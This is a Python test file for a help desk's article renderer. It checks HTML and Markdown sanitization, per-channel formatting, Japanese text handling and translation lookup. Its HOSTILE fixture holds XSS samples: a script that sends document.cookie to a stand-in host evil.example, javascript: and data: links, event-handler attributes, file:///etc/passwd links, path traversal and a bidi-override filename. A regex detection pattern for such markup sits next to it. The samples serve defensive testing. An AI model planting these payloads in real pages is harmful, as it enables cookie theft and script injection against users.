"""Articles as the desk shows and sends them (sync/articles.py): hostile Markdown and HTML
render inert, every channel gets its format, Japanese stays intact, and an agent reads the
translation in the conversation's language, else the original, from a real mirror."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import pytest

from sync import articles, entities
from sync.articles import for_channel, to_html, to_plain_text
from sync.store import Store

HOSTILE = """# Refunds \u202egnp.exe

Click [here](javascript:alert(1)) or [there](JaVaScRiPt:alert(2)) or
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) or [file](file:///etc/passwd)
or [relative](../admin) or <b onclick="steal()">bold</b> <a href="javascript:x()">raw</a>.

<script>fetch("https://evil.example/?c=" + document.cookie)</script>

<img src="https://evil.example/pixel.png" onerror="alert(3)" alt="tracking pixel">

<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><input name="card"></form>
<style>body { background: url(https://evil.example/bg.png) }</style>
<div style="background:url(https://evil.example/bg2.png)">styled</div>

![chart](https://evil.example/chart.png) ![inline](data:image/png;base64,iVBORw0KGgo=)
![local](file:///home/agent/secret.png) ![cached](relaydesk-image:diagram-1.png)
![escape](relaydesk-image:../../etc/passwd)

[![badge](https://evil.example/badge.svg)](https://example.com/ok)
"""

FORBIDDEN = re.compile(r"<\s*(script|style|iframe|form|input|object|embed|svg|math|link|meta)"
                       r"|\bon[a-z]+\s*=|javascript:|data:|file:|evil\.example|\bstyle\s*=",
                       re.IGNORECASE)


def _tags(markup: str) -> list[str]:
    return re.findall(r"<[^>]*>", markup)


def test_hostile_markdown_renders_inert() -> None:
    out = to_html(HOSTILE)
    tags = " ".join(_tags(out))
    assert FORBIDDEN.search(tags) is None, tags
    # No tag fetches anything but a cached image; the only link is the allowed one.
    assert re.findall(r'src="([^"]*)"', out) == ["relaydesk-image:diagram-1.png"]
    assert re.findall(r'href="([^"]*)"', out) == ["https://example.com/ok"]
    # Refused links keep their text; the script's source is gone, not shown.
    for text in ("here", "there", "data", "file", "relative", "bold", "raw", "styled"):
        assert re.search(rf">[^<]*\b{text}\b", out), text
    assert "document.cookie" not in out and "card" not in out
    # Remote, data:, file: and path-escaping images: their alt text and a marker.
    for alt in ("chart", "inline", "local", "escape", "badge", "tracking pixel"):
        assert f"[Image not shown: {alt}]" in out, alt
    # The bidi override in the title shows as a code instead of reversing the text.
    assert "\u202e" not in out and "Refunds ⟨U+202E⟩gnp.exe" in out


def test_the_marker_is_the_callers_and_the_cache_can_be_left_out() -> None:
    out = to_html("![a cat](https://example.com/cat.png) ![map](relaydesk-image:map.png)",
                  local_images=False, image_marker=lambda alt: f"〔画像: {alt}〕")
    assert "<img" not in out
    assert "〔画像: a cat〕" in out and "〔画像: map〕" in out


def test_ordinary_markdown_keeps_its_structure() -> None:
    out = to_html("## Steps\n\n1. Open **Settings**\n2. Choose *Printer*\n\n"
                  "- `reset`\n\n> Note\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                  "Mail [us](mailto:help@example.com) or see <https://example.com/faq>.")
    for piece in ("<h2>Steps</h2>", "<ol>", "<strong>Settings</strong>", "<em>Printer</em>",
                  "<code>reset</code>", "<blockquote>", "<table>", "<td>2</td>",
                  'href="mailto:help@example.com"', 'href="https://example.com/faq"'):
        assert piece in out, piece


def test_hostile_markdown_as_plain_text_keeps_no_markup() -> None:
    out = to_plain_text(HOSTILE)
    assert "<" not in out and ">" not in out
    assert "javascript" not in out.lower() and "data:" not in out and "fetch(" not in out
    assert "](" not in out and "![" not in out and "# " not in out
    assert "Click here or there or data or file or relative or bold raw." in out
    assert "badge (https://example.com/ok)" in out
    assert "\u202e" not in out


MESSAGE = """## Returning an item

Print the **label** from [your orders](https://shop.example.com/orders), then:

- pack the item
- drop it at a *post office*
  1. keep the receipt
  2. note the tracking number

Questions? Mail [support](mailto:help@example.com) or see https://shop.example.com/help.
![Label](relaydesk-image:label.png)
"""

PLAIN = """Returning an item

Print the label from your orders (https://shop.example.com/orders), then:

- pack the item
- drop it at a post office
  1. keep the receipt
  2. note the tracking number

Questions? Mail support (help@example.com) or see https://shop.example.com/help. Label"""


@pytest.mark.parametrize("channel", ["sms", "whatsapp", "line", "messenger", "instagram",
                                     "web_chat", None, "a-channel-of-the-future"])
def test_messaging_channels_get_plain_text(channel: str | None) -> None:
    assert for_channel(MESSAGE, channel) == PLAIN


def test_email_gets_sanitized_html_without_the_desks_images() -> None:
    out = for_channel(MESSAGE, "email")
    assert "<h2>Returning an item</h2>" in out and "<strong>label</strong>" in out
    assert 'href="https://shop.example.com/orders"' in out and "<li>pack the item</li>" in out
    # The customer's mail client cannot reach the desk's cache: the image's alt text.
    assert "<img" not in out and "relaydesk-image" not in out and ">Label<" in out
    assert FORBIDDEN.search(" ".join(_tags(for_channel(HOSTILE, "email")))) is None


JAPANESE = """# 返品の手続き

**返品**は到着後30日以内に受け付けます。[注文履歴](https://shop.example.jp/orders)から
お手続きください。

- 未使用の商品
- 両面印刷の説明書（同梱）

👩\u200d💻 担当：サポート窓口
"""


def test_japanese_text_is_intact() -> None:
    html_out = to_html(JAPANESE)
    assert "<h1>返品の手続き</h1>" in html_out
    assert "<strong>返品</strong>は到着後30日以内に受け付けます。" in html_out
    assert "<li>両面印刷の説明書（同梱）</li>" in html_out
    assert "👩\u200d💻 担当：サポート窓口" in html_out  # an emoji's joiner is kept
    assert to_plain_text(JAPANESE) == (
        "返品の手続き\n\n返品は到着後30日以内に受け付けます。注文履歴 "
        "(https://shop.example.jp/orders)から お手続きください。\n\n"
        "- 未使用の商品\n- 両面印刷の説明書（同梱）\n\n👩\u200d💻 担当：サポート窓口")


def test_a_huge_body_renders() -> None:
    body = "\n\n".join(f"Paragraph {i} with [a link](https://example.com/{i}) and *text*."
                       for i in range(3000))
    assert to_html(body).count("<a href=") == 3000
    assert to_plain_text(body).count("(https://example.com/") == 3000


# --------------------------------------------------------------------------- the mirror


def article_payload(article_id: str, key: str, locale: str, created_at: int, *,
                    title: str | None = None, body: str = "Body", status: str = "published",
                    visibility: str = "public", category: str | None = "Orders",
                    tags: Iterable[str] = ("returns",)) -> dict[str, Any]:
    """An article as the feed delivers it (every declared field)."""
    return {"id": article_id, "key": key, "locale": locale,
            "title": title or f"{key} ({locale})", "body": body, "category": category,
            "tags": list(tags), "visibility": visibility, "team_ids": [], "status": status,
            "version": 1, "updated_by": None, "created_at": created_at,
            "updated_at": created_at + 1}


def put_articles(store: Store, payloads: Iterable[dict[str, Any]]) -> None:
    """Write articles into the mirror the way a pull applies them."""
    changes = [("article", p["id"], "upsert", p) for p in payloads]

    def write() -> None:
        with store.write_mirror() as conn:
            entities.apply_changes(conn, changes)

    store.write_sync(write)


def test_an_article_reads_back_from_the_mirror(store: Store) -> None:
    put_articles(store, [
        article_payload("a1", "returns", "en", 100, body="**Hi**", visibility="internal",
                        tags=("returns", "refunds")),
        article_payload("a2", "draft-one", "en", 100, status="draft")])
    found = articles.load_article(store, "a1")
    assert found is not None
    assert (found.key, found.locale, found.body, found.tags, found.internal) == (
        "returns", "en", "**Hi**", ("returns", "refunds"), True)
    assert articles.load_article(store, "missing") is None
    # A supervisor's mirror holds drafts: not shown as published, readable when asked.
    assert articles.load_article(store, "a2") is None
    draft = articles.load_article(store, "a2", published_only=False)
    assert draft is not None and not draft.published


def test_the_translation_in_the_conversations_language_else_the_original(
        store: Store) -> None:
    put_articles(store, [
        # Japanese written first: it is the original; English and German translate it.
        article_payload("ja", "delivery", "ja", 100),
        article_payload("en", "delivery", "en", 200),
        article_payload("de", "delivery", "de-DE", 300),
        article_payload("fr", "delivery", "fr", 400, status="draft"),
        article_payload("only-en", "printing", "en-US", 100),
        article_payload("gone", "archived-key", "en", 100, status="archived")])

    def pick(key: str, locale: str | None) -> str | None:
        found = articles.load_in_language(store, key, locale)
        return found.id if found else None

    assert pick("delivery", "en") == "en"
    assert pick("delivery", "ja-JP") == "ja"  # the language, whatever the region
    assert pick("delivery", "de") == "de"
    assert pick("delivery", "DE_at") == "de"
    assert pick("delivery", "fr") == "ja"  # a draft translation: the original
    assert pick("delivery", "ko") == "ja"
    assert pick("delivery", None) == "ja"
    assert pick("printing", "en") == "only-en"
    assert pick("printing", "ja") == "only-en"
    assert pick("archived-key", "en") is None
    assert pick("no-such-key", "en") is None
